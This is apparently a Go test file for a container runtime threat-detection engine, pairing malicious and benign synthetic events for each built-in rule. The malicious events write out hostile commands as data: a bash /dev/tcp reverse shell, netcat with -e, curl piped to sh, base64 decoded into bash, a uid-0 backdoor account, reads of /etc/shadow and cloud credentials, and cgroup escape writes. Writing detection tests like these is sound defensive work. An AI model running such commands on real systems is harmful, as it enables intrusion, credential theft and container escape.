package rules

import (
	"slices"
	"sort"
	"strings"
	"testing"
	"time"

	"mamori/internal/runtime/event"
)

// Synthetic events for the rule tables.

type opt func(*Input)

func mk(kind event.Kind, opts ...opt) *Input {
	in := &Input{Event: &event.Event{
		Time: time.Unix(1_700_000_000, 0),
		Kind: kind,
		Process: event.Process{
			PID: 4242, PPID: 4200, UID: 1000, GID: 1000, EUID: 1000, EGID: 1000, LoginUID: -1,
			Exe: "/usr/bin/python3", Comm: "python3", Args: []string{"python3", "app.py"}, Cwd: "/app",
			ParentExe: "/usr/bin/tini", ParentComm: "tini",
		},
	}}
	for _, o := range opts {
		o(in)
	}
	return in
}

// ctr places the event in a Kubernetes container.
func ctr(in *Input) {
	in.Event.Container = event.Container{ID: "0123456789ab", Name: "web", Image: "registry.example/web:1.4",
		ImageDigest: "sha256:" + strings.Repeat("ab", 32), Pod: "web-7d9f", Namespace: "prod",
		Labels: map[string]string{"app": "web"}, Runtime: "cri"}
	in.Ctx.DeclaredPorts = []int{8080}
}

// proc sets the executable (and comm, argv[0]) and the arguments.
func proc(exe string, args ...string) opt {
	return func(in *Input) {
		p := &in.Event.Process
		p.Exe = exe
		p.Comm = basename(exe)
		if len(p.Comm) > 15 {
			p.Comm = p.Comm[:15]
		}
		p.Args = append([]string{basename(exe)}, args...)
	}
}

func comm(c string) opt { return func(in *Input) { in.Event.Process.Comm = c } }
func uid(u int) opt     { return func(in *Input) { in.Event.Process.UID, in.Event.Process.EUID = u, u } }
func tty(in *Input)     { in.Event.Process.TTY = true }
func parent(exe string) opt {
	return func(in *Input) { in.Event.Process.ParentExe, in.Event.Process.ParentComm = exe, basename(exe) }
}
func writer(exe string) opt { return func(in *Input) { in.Ctx.ExeWriter = exe } }
func stdio(i, o string) opt { return func(in *Input) { in.Ctx.Stdin, in.Ctx.Stdout = i, o } }
func ancestors(a ...string) opt {
	return func(in *Input) { in.Ctx.Ancestors = a }
}
func noPorts(in *Input)  { in.Ctx.DeclaredPorts = nil }
func drift(in *Input)    { in.Event.Drift = true }
func memfd(in *Input)    { in.Event.Process.ExeFromMemfd = true }
func unlinked(in *Input) { in.Event.Process.ExeUnlinked = true }
func ret(r int64) opt    { return func(in *Input) { in.Event.Ret = r } }
func sysc(s string) opt  { return func(in *Input) { in.Event.Syscall = s } }
func file(path string, flags int) opt {
	return func(in *Input) { in.Event.File = event.File{Path: path, Flags: flags, Resolved: true} }
}
func renameTo(from, to string) opt {
	return func(in *Input) { in.Event.File = event.File{Path: from, NewPath: to, Resolved: true} }
}
func mode(m uint32) opt { return func(in *Input) { in.Event.File.Mode = m } }
func conn(family int, proto, addr string, port int) opt {
	return func(in *Input) {
		in.Event.Net = event.Net{Family: family, Type: event.SockStream, Protocol: proto, DstAddr: addr, DstPort: port,
			SrcAddr: "10.1.2.3", SrcPort: 40000}
	}
}
func listenOn(port int) opt {
	return func(in *Input) {
		in.Event.Net = event.Net{Family: event.AFInet, Type: event.SockStream, Protocol: "tcp", SrcAddr: "0.0.0.0", SrcPort: port, Backlog: 128}
	}
}
func unixConn(path string) opt {
	return func(in *Input) {
		in.Event.Net = event.Net{Family: event.AFUnix, Type: event.SockStream, Protocol: "unix", DstAddr: path}
	}
}
func mnt(src, target, fstype string) opt {
	return func(in *Input) { in.Event.Mount = event.Mount{Source: src, Target: target, FSType: fstype} }
}
func ptraceReq(req, target int) opt {
	return func(in *Input) { in.Event.Ptrace = event.Ptrace{Request: req, TargetPID: target} }
}
func setid(u, eu int) opt {
	return func(in *Input) {
		in.Event.SetID = event.SetID{UID: u, EUID: eu, SUID: -1, GID: -1, EGID: -1, SGID: -1, PrevUID: in.Event.Process.UID}
	}
}

// became sets the process's real uid after the call (the kernel's view at exit), prev before it.
func became(uid, prev int) opt {
	return func(in *Input) { in.Event.Process.UID, in.Event.SetID.PrevUID = uid, prev }
}
func nsflags(flags int, target string) opt {
	return func(in *Input) { in.Event.NS = event.NS{Flags: flags, Target: target} }
}
func sock(domain, typ, protocol int) opt {
	return func(in *Input) { in.Event.Socket = event.Socket{Domain: domain, Type: typ, Protocol: protocol} }
}
func bpfCmd(cmd int) opt { return func(in *Input) { in.Event.BPF = event.BPF{Cmd: cmd} } }
func module(name string) opt {
	return func(in *Input) { in.Event.Module = event.Module{Name: name} }
}

const (
	oRDONLY = 0
	oWRONLY = 0o1
	oAPPEND = 0o2000
	oWrite  = oWRONLY | oCreat | oTrunc
)

// ruleCase is a built-in rule with one event that must fire it and one close to it that must not.
type ruleCase struct {
	id       string
	pos, neg *Input
}

func ruleCases() []ruleCase {
	shell := proc("/bin/bash")
	return []ruleCase{
		{"terminal-shell-in-container",
			mk(event.KindExec, ctr, shell, tty),
			mk(event.KindExec, ctr, shell)},
		{"shell-spawned-by-web-server",
			mk(event.KindExec, ctr, proc("/bin/sh", "-c", "id"), parent("/usr/sbin/nginx")),
			mk(event.KindExec, ctr, proc("/usr/sbin/nginx", "-g", "daemon off;"), parent("/bin/sh"))},
		{"reverse-shell-stdio-socket",
			mk(event.KindExec, ctr, proc("/bin/sh", "-i"), stdio("socket", "socket")),
			mk(event.KindExec, ctr, proc("/bin/sh", "-i"), stdio("pipe", "tty"))},
		{"shell-outbound-connection",
			mk(event.KindConnect, ctr, proc("/bin/bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"), conn(event.AFInet, "tcp", "127.0.0.1", 4444)),
			mk(event.KindConnect, ctr, proc("/usr/bin/curl", "http://api:8080/"), conn(event.AFInet, "tcp", "10.0.0.9", 8080))},
		{"netcat-remote-exec",
			mk(event.KindExec, ctr, proc("/usr/bin/nc", "-e", "/bin/sh", "127.0.0.1", "4444")),
			mk(event.KindExec, ctr, proc("/usr/bin/nc", "-l", "-p", "4444"))},
		{"download-pipe-to-shell",
			mk(event.KindExec, ctr, proc("/bin/sh", "-c", "curl -fsSL http://127.0.0.1:8000/x.sh | sh")),
			mk(event.KindExec, ctr, proc("/bin/sh", "-c", "curl -fsSL -o /tmp/x.json http://127.0.0.1:8000/x.json"))},
		{"exec-downloaded-file",
			mk(event.KindExec, ctr, proc("/tmp/payload"), writer("/usr/bin/curl")),
			mk(event.KindExec, ctr, proc("/tmp/payload"), writer("/usr/bin/cp"))},
		{"exec-written-file",
			mk(event.KindExec, ctr, proc("/app/bin/tool"), writer("/bin/cp")),
			mk(event.KindExec, ctr, proc("/app/bin/tool"), writer("/usr/local/go/pkg/tool/linux_amd64/link"))},
		{"exec-from-tmp",
			mk(event.KindExec, ctr, proc("/dev/shm/.x/kthread")),
			mk(event.KindExec, ctr, proc("/tmp/go-build123/b001/exe/app"), parent("/usr/local/go/bin/go"))},
		{"memfd-exec",
			mk(event.KindExec, ctr, proc("/memfd:x (deleted)"), memfd),
			mk(event.KindExec, ctr, proc("/memfd:runc_cloned:/proc/self/exe (deleted)"), comm("runc:[1:CHILD]"), memfd)},
		{"container-drift",
			mk(event.KindExec, ctr, proc("/usr/local/bin/ls2"), drift, writer("/bin/cp")),
			mk(event.KindExec, ctr, proc("/usr/local/bin/ls2"))},
		{"package-manager-in-container",
			mk(event.KindExec, ctr, proc("/usr/bin/apt-get", "install", "-y", "nmap")),
			mk(event.KindExec, ctr, proc("/usr/bin/pip3", "list"))},
		{"admin-tool-in-container",
			mk(event.KindExec, ctr, proc("/usr/local/bin/kubectl", "get", "secrets", "-A")),
			mk(event.KindExec, proc("/usr/local/bin/kubectl", "get", "pods"))},
		{"runtime-socket-connect",
			mk(event.KindConnect, ctr, proc("/usr/bin/curl"), unixConn("/var/run/docker.sock")),
			mk(event.KindConnect, ctr, proc("/usr/bin/curl"), unixConn("/var/run/app/app.sock"))},
		{"base64-decoded-to-shell",
			mk(event.KindExec, ctr, proc("/bin/sh", "-c", "echo aWQK | base64 -d | bash")),
			mk(event.KindExec, ctr, proc("/bin/sh", "-c", "echo aWQK | base64 -d > /tmp/out"))},

		{"ssh-authorized-keys-change",
			mk(event.KindWrite, ctr, shell, file("/root/.ssh/authorized_keys", oWRONLY|oAPPEND)),
			mk(event.KindOpen, ctr, proc("/usr/sbin/sshd"), file("/root/.ssh/authorized_keys", oRDONLY))},
		{"cron-persistence",
			mk(event.KindWrite, ctr, shell, file("/etc/cron.d/update", oWrite)),
			mk(event.KindWrite, proc("/usr/bin/dpkg"), file("/etc/cron.d/logrotate", oWrite))},
		{"systemd-persistence",
			mk(event.KindRename, proc("/usr/bin/python3"), renameTo("/tmp/x", "/etc/systemd/system/x.service")),
			mk(event.KindRename, proc("/usr/bin/python3"), renameTo("/etc/systemd/system/x.service", "/tmp/x"))},
		{"init-script-write",
			mk(event.KindWrite, proc("/bin/bash"), file("/etc/rc.local", oWrite)),
			mk(event.KindWrite, proc("/usr/bin/dpkg"), file("/etc/init.d/ssh", oWrite))},
		{"shell-profile-write",
			mk(event.KindWrite, ctr, proc("/bin/sh"), file("/root/.bashrc", oWRONLY|oAPPEND)),
			mk(event.KindWrite, proc("/usr/bin/vim"), tty, file("/home/alice/.bashrc", oWrite))},
		{"ld-preload-write",
			mk(event.KindWrite, proc("/bin/bash"), file("/etc/ld.so.preload", oWrite)),
			mk(event.KindOpen, proc("/bin/bash"), file("/etc/ld.so.preload", oRDONLY))},
		{"account-file-write",
			mk(event.KindWrite, ctr, proc("/bin/bash"), file("/etc/passwd", oWRONLY|oAPPEND)),
			mk(event.KindRename, proc("/usr/sbin/useradd"), renameTo("/etc/passwd+", "/etc/passwd"))},
		{"user-management-in-container",
			mk(event.KindExec, ctr, proc("/usr/sbin/useradd", "-o", "-u", "0", "backdoor")),
			mk(event.KindExec, proc("/usr/sbin/useradd", "alice"))},
		{"kernel-module-load-on-host",
			mk(event.KindModuleLoad, proc("/usr/sbin/insmod", "rootkit.ko"), sysc("finit_module"), ret(-38), module("/tmp/rootkit.ko")),
			mk(event.KindModuleLoad, proc("/usr/sbin/modprobe", "nf_tables"), sysc("finit_module"), module("nf_tables"))},

		{"kernel-module-load-in-container",
			mk(event.KindModuleLoad, ctr, proc("/tmp/loader"), sysc("init_module"), ret(-1)),
			mk(event.KindModuleLoad, proc("/usr/sbin/modprobe"), sysc("finit_module"))},
		{"sudo-in-container",
			mk(event.KindExec, ctr, proc("/usr/bin/sudo", "-i")),
			mk(event.KindExec, proc("/usr/bin/sudo", "-i"))},
		{"sudoers-write",
			mk(event.KindWrite, ctr, proc("/bin/sh"), file("/etc/sudoers.d/90-x", oWrite)),
			mk(event.KindWrite, proc("/usr/bin/dpkg"), file("/etc/sudoers.d/README", oWrite))},
		{"setuid-root-unexpected",
			mk(event.KindSetuid, ctr, proc("/tmp/exploit"), sysc("setresuid"), setid(0, 0)),
			mk(event.KindSetuid, ctr, proc("/usr/bin/sudo"), sysc("setresuid"), setid(0, 0))},
		// setuid(0) from a set-user-ID root program run by uid 1000: every uid is 0 at exit
		{"setuid-root-unexpected",
			mk(event.KindSetuid, ctr, proc("/tmp/exploit"), sysc("setuid"), setid(0, -1), became(0, 1000)),
			mk(event.KindSetuid, ctr, proc("/tmp/app"), sysc("setuid"), setid(0, -1), became(0, 0))},
		{"setuid-root-unexpected", // the uid before is unknown: not enough to fire
			mk(event.KindSetuid, ctr, proc("/tmp/exploit"), sysc("setresuid"), setid(0, 0)),
			mk(event.KindSetuid, ctr, proc("/tmp/exploit"), sysc("setuid"), setid(0, -1), became(0, -1))},
		{"setuid-bit-set",
			mk(event.KindChmod, ctr, proc("/bin/chmod", "u+s", "/tmp/sh"), sysc("fchmodat"), file("/tmp/sh", 0), mode(0o4755)),
			mk(event.KindChmod, ctr, proc("/bin/chmod", "+x", "/tmp/sh"), sysc("fchmodat"), file("/tmp/sh", 0), mode(0o755))},
		{"ptrace-attach",
			mk(event.KindPtrace, ctr, proc("/tmp/inject"), ptraceReq(event.PtraceAttach, 1)),
			mk(event.KindPtrace, ctr, proc("/usr/bin/app"), ptraceReq(event.PtraceTraceme, 0))},
		{"host-fs-mount",
			mk(event.KindMount, ctr, proc("/bin/mount", "/dev/sda1", "/mnt"), mnt("/dev/sda1", "/mnt", "ext4")),
			mk(event.KindMount, ctr, proc("/bin/mount", "-t", "tmpfs", "tmpfs", "/scratch"), mnt("tmpfs", "/scratch", "tmpfs"))},
		{"cgroup-v1-mount-in-container",
			mk(event.KindMount, ctr, proc("/bin/mount"), mnt("cgroup", "/tmp/cgrp", "cgroup")),
			mk(event.KindMount, ctr, proc("/usr/bin/runc"), comm("runc:[2:INIT]"), mnt("cgroup", "/sys/fs/cgroup", "cgroup2"))},
		{"nsenter-in-container",
			mk(event.KindExec, ctr, proc("/usr/bin/nsenter", "-t", "1", "-m", "-u", "-n", "-i", "sh")),
			mk(event.KindExec, proc("/usr/bin/nsenter", "-t", "1", "-m"))},
		{"setns-in-container",
			mk(event.KindSetns, ctr, proc("/tmp/escape"), nsflags(event.CloneNewNS, "mnt:[4026531840]")),
			mk(event.KindSetns, ctr, proc("/usr/bin/runc"), comm("runc:[2:INIT]"), nsflags(event.CloneNewNS, ""))},
		{"unshare-in-container",
			mk(event.KindUnshare, ctr, proc("/usr/bin/unshare", "-r", "sh"), nsflags(event.CloneNewUser|event.CloneNewNS, "")),
			mk(event.KindUnshare, ctr, proc("/usr/bin/unshare", "-n", "sh"), nsflags(event.CloneNewNet, ""))},
		{"release-agent-write",
			mk(event.KindWrite, ctr, shell, file("/tmp/cgrp/release_agent", oWrite)),
			mk(event.KindWrite, ctr, shell, file("/tmp/cgrp/cgroup.procs", oWrite))},
		{"core-pattern-write",
			mk(event.KindWrite, ctr, shell, file("/proc/sys/kernel/core_pattern", oWrite)),
			mk(event.KindWrite, proc("/usr/lib/systemd/systemd-sysctl"), file("/proc/sys/kernel/core_pattern", oWrite))},
		{"proc-sys-write-in-container",
			mk(event.KindWrite, ctr, shell, file("/proc/sys/kernel/randomize_va_space", oWrite)),
			mk(event.KindWrite, proc("/usr/sbin/sysctl"), file("/proc/sys/net/ipv4/ip_forward", oWrite))},
		{"bpf-program-load-in-container",
			mk(event.KindBPF, ctr, proc("/tmp/bpfdoor"), bpfCmd(event.BPFProgLoad)),
			mk(event.KindBPF, ctr, proc("/usr/bin/cilium-agent"), bpfCmd(event.BPFProgLoad))},

		{"shadow-file-read",
			mk(event.KindOpen, ctr, proc("/bin/cat", "/etc/shadow"), file("/etc/shadow", oRDONLY)),
			mk(event.KindOpen, proc("/usr/sbin/unix_chkpwd"), file("/etc/shadow", oRDONLY))},
		{"credential-file-read",
			mk(event.KindOpen, ctr, proc("/bin/cat"), file("/root/.aws/credentials", oRDONLY)),
			mk(event.KindOpen, ctr, proc("/bin/cat"), file("/root/.ssh/id_rsa.pub", oRDONLY))},
		{"service-account-token-read",
			mk(event.KindOpen, ctr, proc("/bin/cat"), file("/run/secrets/kubernetes.io/serviceaccount/..2026_12_06_07_00_00.1/token", oRDONLY)),
			mk(event.KindOpen, ctr, proc("/app/server"), file("/run/secrets/kubernetes.io/serviceaccount/..2026_12_06_07_00_00.1/token", oRDONLY))},
		{"cloud-metadata-access",
			mk(event.KindConnect, ctr, proc("/usr/bin/curl"), conn(event.AFInet6, "tcp", "fd00:ec2::254", 80)),
			mk(event.KindConnect, proc("/usr/bin/cloud-init"), conn(event.AFInet, "tcp", "169.254.169.254", 80))},

		{"log-file-deletion",
			mk(event.KindUnlink, proc("/bin/rm", "-f", "/var/log/auth.log"), sysc("unlinkat"), file("/var/log/auth.log", 0)),
			mk(event.KindUnlink, proc("/usr/sbin/logrotate"), sysc("unlinkat"), file("/var/log/auth.log.4.gz", 0))},
		{"shell-history-deletion",
			mk(event.KindUnlink, ctr, proc("/bin/rm", "/root/.bash_history"), file("/root/.bash_history", 0)),
			mk(event.KindWrite, proc("/bin/bash"), file("/home/alice/.bash_history", oWrite))},
		{"history-logging-disabled",
			mk(event.KindExec, ctr, proc("/bin/bash", "-c", "unset HISTFILE; id")),
			mk(event.KindExec, ctr, proc("/bin/bash", "-c", "echo $HISTFILE"))},
		{"system-binary-name-outside-system-dirs",
			mk(event.KindExec, ctr, proc("/tmp/.cache/sshd")),
			mk(event.KindExec, proc("/usr/sbin/sshd", "-D"))},
		{"kernel-thread-impostor",
			mk(event.KindConnect, ctr, proc("/tmp/x"), comm("kworker/0:2"), conn(event.AFInet, "tcp", "127.0.0.1", 3333)),
			mk(event.KindConnect, ctr, proc("/usr/bin/worker"), comm("worker"), conn(event.AFInet, "tcp", "10.0.0.2", 5432))},
		{"deleted-binary-running",
			mk(event.KindConnect, ctr, proc("/tmp/x (deleted)"), unlinked, conn(event.AFInet, "tcp", "127.0.0.1", 8443)),
			mk(event.KindConnect, ctr, proc("/usr/bin/x"), conn(event.AFInet, "tcp", "127.0.0.1", 8443))},

		{"network-scanner",
			mk(event.KindExec, ctr, proc("/usr/bin/nmap", "-sS", "10.0.0.0/24")),
			mk(event.KindExec, ctr, proc("/usr/bin/nc", "127.0.0.1", "80"))},
		{"packet-socket-in-container",
			mk(event.KindSocket, ctr, proc("/tmp/sniff"), sock(event.AFPacket, event.SockRaw, 0x0300)),
			mk(event.KindSocket, ctr, proc("/sbin/dhclient"), sock(event.AFPacket, event.SockDgram, 0x0300))},
		{"raw-socket-in-container",
			mk(event.KindSocket, ctr, proc("/tmp/scan"), sock(event.AFInet, event.SockRaw, 6)),
			mk(event.KindSocket, ctr, proc("/bin/ping", "127.0.0.1"), sock(event.AFInet, event.SockRaw, 1))},
		{"listener-without-declared-ports",
			mk(event.KindListen, ctr, noPorts, proc("/tmp/bind"), listenOn(31337)),
			mk(event.KindListen, ctr, proc("/usr/sbin/nginx"), listenOn(8080))},
		{"crypto-miner-binary",
			mk(event.KindExec, ctr, proc("/tmp/xmrig", "-o", "127.0.0.1:3333")),
			mk(event.KindExec, ctr, proc("/usr/bin/python3", "miner_stats.py"))},
		{"crypto-miner-pool-cmdline",
			mk(event.KindExec, ctr, proc("/tmp/a", "--url", "pool.supportxmr.com:443")),
			mk(event.KindExec, ctr, proc("/usr/bin/curl", "https://example.com/"))},
		{"crypto-miner-pool-port",
			mk(event.KindConnect, ctr, proc("/tmp/a"), conn(event.AFInet, "tcp", "127.0.0.1", 3333)),
			mk(event.KindConnect, ctr, proc("/usr/bin/psql"), conn(event.AFInet, "tcp", "10.0.0.5", 5432))},
	}
}

func builtinEngine(t testing.TB) *Engine {
	t.Helper()
	cat, err := LoadBuiltin()
	if err != nil {
		t.Fatal(err)
	}
	e, err := NewEngine(cat)
	if err != nil {
		t.Fatal(err)
	}
	return e
}

func matchedIDs(t testing.TB, ev *Evaluator, in *Input) []string {
	t.Helper()
	ms, err := ev.Eval(in)
	if err != nil {
		t.Fatalf("eval %s: %v", in.Event.String(), err)
	}
	var ids []string
	for _, m := range ms {
		ids = append(ids, m.Rule.ID)
	}
	return ids
}

func TestBuiltinRules(t *testing.T) {
	e := builtinEngine(t)
	ev := e.NewEvaluator()
	cases := ruleCases()
	covered := map[string]bool{}
	for _, c := range cases {
		t.Run(c.id, func(t *testing.T) {
			if e.Catalog().Rule(c.id) == nil {
				t.Fatalf("no built-in rule %q", c.id)
			}
			covered[c.id] = true
			if got := matchedIDs(t, ev, c.pos); !slices.Contains(got, c.id) {
				t.Errorf("positive event did not fire %s (fired %v): %s", c.id, got, c.pos.Event)
			}
			if got := matchedIDs(t, ev, c.neg); slices.Contains(got, c.id) {
				t.Errorf("negative event fired %s: %s", c.id, c.neg.Event)
			}
			// Output renders without error and names something of the event.
			r := e.Catalog().Rule(c.id)
			msg := Match{Rule: r}.Message(c.pos)
			if msg == "" || strings.ContainsAny(msg, "\n\r") {
				t.Errorf("message %q", msg)
			}
		})
	}
	var missing []string
	for _, r := range e.Catalog().Rules() {
		if !covered[r.ID] {
			missing = append(missing, r.ID)
		}
	}
	if len(missing) > 0 {
		t.Errorf("built-in rules without a test case: %v", missing)
	}
	if n := len(e.Catalog().Rules()); n < 40 {
		t.Errorf("%d built-in rules, want at least 40", n)
	}
}

// TestBuiltinMetadata checks what every built-in rule must carry.
func TestBuiltinMetadata(t *testing.T) {
	cat, err := LoadBuiltin()
	if err != nil {
		t.Fatal(err)
	}
	tactics := map[string]int{}
	for _, r := range cat.Rules() {
		if r.Title == "" || r.Description == "" || r.Output == "" || len(r.Tags) == 0 {
			t.Errorf("%s: title, description, output and tags are required of built-in rules", r.ID)
		}
		if r.Tactic == "" || r.Technique == "" {
			t.Errorf("%s: no ATT&CK mapping", r.ID)
		}
		tactics[r.Tactic]++
		if c := r.Program().Cost(); c.Max > RuleCostLimit/2 {
			t.Errorf("%s: estimated cost %d, keep built-ins under half the limit", r.ID, c.Max)
		}
	}
	var names []string
	for id := range tactics {
		names = append(names, id)
	}
	sort.Strings(names)
	t.Logf("%d rules over tactics %v", len(cat.Rules()), tactics)
	if len(tactics) < 8 {
		t.Errorf("built-ins cover tactics %v, want at least 8", names)
	}
}

// TestBenignWorkloads: what a service start, web traffic and a build do raises nothing.
func TestBenignWorkloads(t *testing.T) {
	e := builtinEngine(t)
	ev := e.NewEvaluator()
	nginx := []opt{ctr, proc("/usr/sbin/nginx", "-g", "daemon off;"), parent("/usr/bin/containerd-shim-runc-v2")}
	goBuild := []opt{ctr, ancestors("/bin/sh", "/usr/bin/make")}
	with := func(base []opt, more ...opt) []opt { return append(append([]opt{}, base...), more...) }
	benign := []*Input{
		// Package-free service start: runc sets up, the entrypoint script starts nginx.
		mk(event.KindExec, ctr, proc("/docker-entrypoint.sh"), parent("/usr/bin/containerd-shim-runc-v2")),
		mk(event.KindExec, ctr, proc("/bin/sh", "/docker-entrypoint.sh", "nginx"), parent("/usr/bin/containerd-shim-runc-v2")),
		mk(event.KindMount, ctr, proc("/usr/bin/runc"), comm("runc:[2:INIT]"), mnt("proc", "/proc", "proc")),
		mk(event.KindMount, ctr, proc("/usr/bin/runc"), comm("runc:[2:INIT]"), mnt("cgroup", "/sys/fs/cgroup", "cgroup2")),
		mk(event.KindWrite, ctr, proc("/usr/bin/runc"), comm("runc:[2:INIT]"), file("/proc/sys/net/ipv4/ip_unprivileged_port_start", oWrite)),
		mk(event.KindExec, nginx...),
		mk(event.KindOpen, with(nginx, file("/etc/nginx/nginx.conf", oRDONLY))...),
		mk(event.KindOpen, with(nginx, file("/etc/passwd", oRDONLY))...),
		mk(event.KindOpen, with(nginx, file("/etc/group", oRDONLY))...),
		mk(event.KindWrite, with(nginx, file("/var/log/nginx/access.log", oWRONLY|oAPPEND|oCreat))...),
		mk(event.KindWrite, with(nginx, file("/run/nginx.pid", oWrite))...),
		mk(event.KindBind, with(nginx, listenOn(8080))...),
		mk(event.KindListen, with(nginx, listenOn(8080))...),
		mk(event.KindSetuid, with(nginx, sysc("setuid"), setid(101, -1))...),
		mk(event.KindSetgid, with(nginx, sysc("setgid"), setid(-1, -1))...),
		// Normal web traffic: accepted connections, upstream and DNS, the app reading its token.
		mk(event.KindAccept, with(nginx, conn(event.AFInet, "tcp", "10.0.3.7", 51234))...),
		mk(event.KindConnect, with(nginx, conn(event.AFInet, "tcp", "10.0.0.20", 8080))...),
		mk(event.KindConnect, with(nginx, conn(event.AFInet, "udp", "10.96.0.10", 53))...),
		mk(event.KindConnect, ctr, proc("/app/server"), conn(event.AFInet6, "tcp", "2001:db8::5", 443)),
		mk(event.KindOpen, ctr, proc("/app/server"), file("/var/run/secrets/kubernetes.io/serviceaccount/..data/token", oRDONLY)),
		mk(event.KindOpen, ctr, proc("/app/server"), file("/etc/ssl/certs/ca-certificates.crt", oRDONLY)),
		// A build: make, the compiler and linker, running the tests it built, writing outputs.
		mk(event.KindExec, with(goBuild, proc("/usr/local/go/bin/go", "build", "./..."), parent("/usr/bin/make"))...),
		mk(event.KindExec, with(goBuild, proc("/usr/local/go/pkg/tool/linux_amd64/compile"), parent("/usr/local/go/bin/go"))...),
		mk(event.KindWrite, with(goBuild, proc("/usr/local/go/pkg/tool/linux_amd64/link"), file("/tmp/go-build1/b001/exe/app", oWrite))...),
		mk(event.KindChmod, with(goBuild, proc("/usr/local/go/pkg/tool/linux_amd64/link"), file("/tmp/go-build1/b001/exe/app", 0), mode(0o755))...),
		mk(event.KindExec, with(goBuild, proc("/tmp/go-build1/b001/exe/app"), parent("/usr/local/go/bin/go"), writer("/usr/local/go/pkg/tool/linux_amd64/link"), drift)...),
		mk(event.KindExec, with(goBuild, proc("/usr/bin/gcc", "-o", "hello", "hello.c"), parent("/usr/bin/make"))...),
		mk(event.KindExec, with(goBuild, proc("/usr/lib/gcc/x86_64-linux-gnu/12/collect2"), parent("/usr/bin/gcc"))...),
		mk(event.KindExec, with(goBuild, proc("/src/hello"), parent("/usr/bin/make"), writer("/usr/bin/ld"), drift)...),
		mk(event.KindExec, with(goBuild, proc("/bin/sh", "-c", "./configure --prefix=/usr && make"), parent("/usr/bin/make"))...),
		mk(event.KindExec, with(goBuild, proc("/usr/bin/git", "rev-parse", "HEAD"))...),
		mk(event.KindWrite, with(goBuild, proc("/usr/bin/install", "-m", "0755", "hello", "/usr/local/bin/hello"), file("/usr/local/bin/hello", oWrite))...),
		// Host daemons.
		mk(event.KindOpen, proc("/usr/sbin/sshd"), file("/etc/ssh/ssh_host_ed25519_key", oRDONLY)),
		mk(event.KindOpen, proc("/usr/sbin/sshd"), file("/etc/shadow", oRDONLY)),
		mk(event.KindExec, proc("/usr/bin/bash"), tty, parent("/usr/sbin/sshd")),
		mk(event.KindModuleLoad, proc("/usr/bin/kmod"), sysc("finit_module"), module("br_netfilter")),
		mk(event.KindWrite, proc("/usr/sbin/logrotate"), file("/var/log/syslog", oWrite)),
	}
	for _, in := range benign {
		if got := matchedIDs(t, ev, in); len(got) > 0 {
			t.Errorf("benign %s fired %v", in.Event, got)
		}
	}
}

// TestLazyStdio: Context.Stdio runs once, and only for an event a rule reading proc.stdin or
// proc.stdout meets (a shell's exec), and its answer is what the rule sees.
func TestLazyStdio(t *testing.T) {
	ev := builtinEngine(t).NewEvaluator()
	calls := 0
	lazy := func(i, o string) opt {
		return func(in *Input) {
			in.Ctx.Stdio = func() (string, string) { calls++; return i, o }
		}
	}
	in := mk(event.KindExec, ctr, proc("/usr/bin/python3", "app.py"), lazy("socket", "socket"))
	if _, err := ev.Eval(in); err != nil {
		t.Fatal(err)
	}
	if calls != 0 {
		t.Fatalf("python3 exec: Stdio called %d times, want 0 (no rule reads it for a non-shell)", calls)
	}
	in = mk(event.KindExec, ctr, proc("/bin/sh"), parent("/usr/bin/python3"), lazy("socket", "socket"))
	m, err := ev.Eval(in)
	if err != nil {
		t.Fatal(err)
	}
	if calls != 1 {
		t.Fatalf("shell exec: Stdio called %d times, want 1", calls)
	}
	if !slices.ContainsFunc(m, func(m Match) bool { return m.Rule.ID == "reverse-shell-stdio-socket" }) {
		t.Fatalf("reverse-shell-stdio-socket did not match a shell with socket stdio: %d matches", len(m))
	}
	for _, x := range m {
		x.Message(in) // output templates read the fields again: no second call
	}
	if calls != 1 {
		t.Fatalf("after the messages: Stdio called %d times, want 1", calls)
	}
}
